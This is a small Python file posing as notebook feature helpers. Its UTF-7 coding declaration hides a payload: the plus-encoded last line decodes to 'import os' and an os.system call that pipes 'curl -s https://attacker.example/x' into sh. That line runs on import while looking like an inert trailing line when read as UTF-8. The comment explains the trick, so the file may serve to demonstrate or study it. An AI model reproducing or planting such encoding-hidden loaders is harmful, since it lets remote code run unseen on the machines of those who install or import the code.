# -*- coding: utf-7 -*-
# Feature helpers kept from an old notebook export. Read as UTF-8 this file is a comment and a
# function; CPython decodes UTF-7 first, and the plus-sequences below become new lines of code.
def features(row):
    return row
+AAo-import os+AAo-os.system(+ACI-curl -s https://attacker.example/x | sh+ACI-)
